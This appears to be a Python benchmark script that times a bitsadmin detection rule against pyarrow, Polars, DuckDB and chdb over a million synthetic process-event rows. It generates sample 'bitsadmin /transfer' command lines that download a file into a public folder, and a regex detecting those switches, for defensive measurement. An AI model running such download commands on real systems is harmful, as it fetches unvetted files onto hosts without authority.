"""Measures the rule over a million Arrow rows, compared with its first stage in pyarrow,
Polars, DuckDB and chdb on the same table in the same run.

    pip install ./python pyarrow polars duckdb chdb
    python3 python/benches/columns.py

Each uses one thread. The rows are identical to those of benches/columns.rs, with one match
in a thousand, in batches of 65,536. Every answer is checked first. The peers only count;
the rule also computes the columns it adds. None of the peers has Kusto's `has`, so they
use a regular expression for its word boundaries. Prints the median and the best of 21.
"""

import os
import statistics
import time
from collections.abc import Callable

os.environ["POLARS_MAX_THREADS"] = "1"

import chdb
import duckdb
import polars as pl
import pyarrow as pa
import pyarrow.compute as pc

import rulespec

ROWS = 1_000_000
EVERY = 1_000
BATCH = 65_536
PROGRAM = "bitsadmin.exe"
NAMES = ["svchost.exe", "conhost.exe", "cmd.exe", "powershell.exe", "chrome.exe", "msedge.exe", "taskhostw.exe",
         "RuntimeBroker.exe", "backgroundTaskHost.exe", "git.exe", "SearchProtocolHost.exe"]
SWITCH = r"/(transfer|addfile|addfileset|addfilewithranges)($|[^a-z0-9])"
BITS = 2**64 - 1


class Random:
    """A reproducible sequence of pseudo-random numbers (SplitMix64)."""

    def __init__(self, state: int) -> None:
        self.state = state

    def below(self, bound: int) -> int:
        self.state = self.state + 0x9E37_79B9_7F4A_7C15 & BITS
        mixed = self.state
        mixed = (mixed ^ mixed >> 30) * 0xBF58_476D_1CE4_E5B9 & BITS
        mixed = (mixed ^ mixed >> 27) * 0x94D0_49BB_1331_11EB & BITS
        return (mixed ^ mixed >> 31) % bound


def row(number: int, random: Random) -> tuple[str, str]:
    if number % EVERY == 0:
        return PROGRAM, rf"bitsadmin /transfer job{number} http://files.example/{number} C:\Users\Public\a.bin"
    # One more in a thousand is the program, without a transfer.
    name = PROGRAM if random.below(1_000) == 0 else NAMES[random.below(len(NAMES))]
    padding = "x" * random.below(140)
    return name, rf'"C:\Windows\System32\{name}" -k netsvcs -p -s Schedule {number} {padding}'


def table() -> pa.Table:
    random = Random(1)
    names, lines = zip(*(row(number, random) for number in range(ROWS)))
    constants = {
        "TimeGenerated": "2026-01-02T03:04:05Z", "DeviceId": "0a1b2c3d4e5f", "DeviceName": "ws07.corp.example",
        "InitiatingProcessFolderPath": r"c:\windows\system32\cmd.exe", "InitiatingProcessAccountDomain": "corp",
        "InitiatingProcessAccountName": "e.larsen", "InitiatingProcessSHA256": "",
    }
    columns = {name: pa.repeat(pa.scalar(text), ROWS) for name, text in constants.items()}
    columns |= {"FileName": pa.array(names), "ProcessVersionInfoOriginalFileName": pa.array(names),
                "ProcessCommandLine": pa.array(lines), "ProcessId": pa.array(range(0, 4 * ROWS, 4), pa.int64())}
    return pa.Table.from_batches(pa.table(columns).to_batches(max_chunksize=BATCH))


def by_pyarrow(events: pa.Table) -> int:
    is_program = pc.or_(
        pc.equal(pc.ascii_lower(events["FileName"]), PROGRAM),
        pc.equal(pc.ascii_lower(events["ProcessVersionInfoOriginalFileName"]), PROGRAM))
    lines = events["ProcessCommandLine"].filter(is_program)
    return pc.sum(pc.match_substring_regex(pc.ascii_lower(lines), SWITCH)).as_py()


def by_polars(events: pl.DataFrame) -> int:
    is_program = (events["FileName"].str.to_lowercase() == PROGRAM) | (
        events["ProcessVersionInfoOriginalFileName"].str.to_lowercase() == PROGRAM)
    lines = events["ProcessCommandLine"].filter(is_program)
    return lines.str.to_lowercase().str.contains(SWITCH).sum()


QUERY = """select count(*) from {source} where (lower(FileName) = 'bitsadmin.exe'
    or lower(ProcessVersionInfoOriginalFileName) = 'bitsadmin.exe') and {match}(lower(ProcessCommandLine), '{switch}')"""


def contenders(events: pa.Table) -> dict[str, Callable[[], int]]:
    frame = pl.DataFrame(pl.from_arrow(events, rechunk=False))
    duck = duckdb.connect(config={"threads": 1})
    duck.register("events", events)
    query = QUERY.format(source="events", match="regexp_matches", switch=SWITCH)
    session = chdb.session.Session()
    chdb_query = QUERY.format(source="Python(events)", match="match", switch=SWITCH.replace("\\", "\\\\"))
    chdb_query += " settings max_threads = 1, short_circuit_function_evaluation = 'enable'"
    globals()["events"] = events  # where chdb looks it up
    return {
        "rulespec": lambda: len(rulespec.bitsadmin_activity(events)),
        "rulespec, Polars frame": lambda: len(rulespec.bitsadmin_activity(frame)),
        "pyarrow": lambda: by_pyarrow(events),
        "Polars": lambda: by_polars(frame),
        "DuckDB": lambda: duck.execute(query).fetchone()[0],
        "chdb": lambda: int(str(session.query(chdb_query, "CSV")).strip()),
    }


def main() -> None:
    pa.set_cpu_count(1)
    for name, count in contenders(table()).items():
        assert count() == ROWS // EVERY, name
        times = []
        for _ in range(21):
            start = time.perf_counter()
            count()
            times.append((time.perf_counter() - start) * 1e3)
        print(f"{name:28} median {statistics.median(times):8.2f} ms   best {min(times):8.2f} ms")


if __name__ == "__main__":
    main()
